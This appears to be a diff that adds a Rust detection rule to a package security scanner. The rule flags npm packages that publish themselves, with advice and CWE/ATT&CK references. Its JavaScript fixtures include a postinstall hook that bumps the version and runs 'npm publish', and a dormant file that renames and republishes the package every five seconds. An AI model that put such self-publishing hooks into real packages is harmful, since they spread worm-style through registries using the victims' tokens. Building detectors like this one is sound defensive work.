@@ -1,0 +1,152 @@
+//! The package publishes packages by itself.
+
+use std::collections::BTreeSet;
+
+use super::judge::{self, ByTrigger};
+use super::{Context, Declaration, Example, Finding};
+use crate::api::targets;
+use crate::behaviours::Behaviour;
+use crate::model::{FileId, Severity, SurfaceKind};
+
+pub(super) static FINDING: Declaration = Declaration {
+    id: "self-publishing",
+    title: "Publishes packages by itself",
+    severity: Severity::Critical,
+    summary: "An install hook, or code that runs on import, publishes to a registry, or code changes a manifest and then publishes. This is how a worm goes on to the next packages.",
+    advice: "Don't install it. If it ran where a token may publish, revoke the token and look at what was published in your name.",
+    benign_when: "A release tool publishes the project in which somebody runs it.",
+    references: &["CWE-506", "T1072", "T1195.002"],
+    examples: &[
+        Example {
+            name: "a hook bumps a version and publishes",
+            severity: Some(Severity::Critical),
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"node i.js"}}"#,
+                ),
+                (
+                    "i.js",
+                    r#"const { execSync } = require("child_process"), fs = require("fs");
+const json = JSON.parse(fs.readFileSync("/tmp/p/package.json", "utf8"));
+fs.writeFileSync("/tmp/p/package.json", JSON.stringify({ ...json, version: "1.0.1" }));
+execSync("npm publish", { cwd: "/tmp/p" });"#,
+                ),
+            ],
+        },
+        Example {
+            name: "a file that nothing leads to renames and publishes the package",
+            severity: Some(Severity::High),
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","main":"i.js"}"#,
+                ),
+                ("i.js", "exports.a = 1;"),
+                (
+                    "auto.js",
+                    r#"const fs = require("fs"), path = require("path"), { execSync } = require("child_process");
+const at = path.join(__dirname, "package.json");
+setInterval(() => {
+  const json = JSON.parse(fs.readFileSync(at, "utf8"));
+  json.name = "a" + Math.random();
+  fs.writeFileSync(at, JSON.stringify(json));
+  execSync("npm publish --access public");
+}, 5000);"#,
+                ),
+            ],
+        },
+        Example {
+            name: "a release tool that its user runs",
+            severity: None,
+            files: &[
+                (
+                    "package.json",
+                    r#"{"name":"a","version":"1.0.0","bin":"i.js"}"#,
+                ),
+                (
+                    "i.js",
+                    r#"const { execSync } = require("child_process"), fs = require("fs");
+const json = JSON.parse(fs.readFileSync("package.json", "utf8"));
+fs.writeFileSync("package.json", JSON.stringify({ ...json, version: process.argv[2] }));
+execSync("npm publish", { stdio: "inherit" });"#,
+                ),
+            ],
+        },
+    ],
+    detect,
+};
+
+const AT_MOST: ByTrigger = ByTrigger {
+    import: Severity::Critical,
+    asked: Severity::High,
+};
+
+fn detect(context: &Context<'_>, found: &mut Vec<Finding>) {
+    let changing: BTreeSet<FileId> = files(context, changes_own_manifest);
+    let rewriting: BTreeSet<FileId> = files(context, changes_manifest);
+    let stealing: BTreeSet<FileId> = files(context, reads_token);
+    for behaviour in context.behaviours {
+        if behaviour.what.id != "module.publish" {
+            continue;
+        }
+        let reach = behaviour.reach;
+        let unasked = reach.loads_on(SurfaceKind::Install) || reach.loads_on(SurfaceKind::Import);
+        let here = |files: &BTreeSet<FileId>| {
+            behaviour
+                .sites
+                .iter()
+                .any(|site| files.contains(&site.file))
+        };
+        let by_command = reach.get(SurfaceKind::Bin).is_some();
+        // A tool changes the project in which it runs; a file that nothing leads to is no tool.
+        let spreads = (here(&changing) && (here(&stealing) || !by_command))
+            || (reach.is_dormant() && here(&rewriting));
+        if !unasked && !spreads {
+            continue;
+        }
+        let what = behaviour.target.as_deref().unwrap_or("a package");
+        let message = format!("publishes {what}");
+        let mut finding = Finding::of_behaviour(&FINDING, behaviour, message);
+        if reach.is_dormant() {
+            let note = "no surface of the package leads to this file".to_owned();
+            finding.lower(Severity::High, "dormant", note);
+        } else {
+            judge::by_trigger(AT_MOST, &mut finding);
+        }
+        found.push(finding);
+    }
+}
+
+fn files(context: &Context<'_>, holds: fn(&Behaviour) -> bool) -> BTreeSet<FileId> {
+    let sites = context.behaviours.iter().filter(|one| holds(one));
+    sites
+        .flat_map(|one| one.sites.iter().map(|site| site.file))
+        .collect()
+}
+
+fn changes_manifest(behaviour: &Behaviour) -> bool {
+    let path = behaviour.target.as_deref().unwrap_or("");
+    behaviour.what.id == "fs.write" && (path == "package.json" || path.ends_with("/package.json"))
+}
+
+/// Its own manifest or one that it unpacked; a tool changes the one of its user's project.
+fn changes_own_manifest(behaviour: &Behaviour) -> bool {
+    behaviour.what.id == "fs.write"
+        && behaviour.target.as_deref().is_some_and(|path| {
+            path.ends_with("/package.json")
+                && (path.starts_with("<package>")
+                    || path.starts_with("<tmp>")
+                    || path.starts_with("/tmp"))
+        })
+}
+
+fn reads_token(behaviour: &Behaviour) -> bool {
+    let target = behaviour.target.as_deref().unwrap_or("");
+    let secret = match behaviour.what.id {
+        "fs.read" => targets::secret_path(target).map(|secret| secret.id),
+        "environment.read" => targets::secret_variable(target).map(|secret| secret.id),
+        _ => None,
+    };
+    secret == Some("credential.npm")
+}
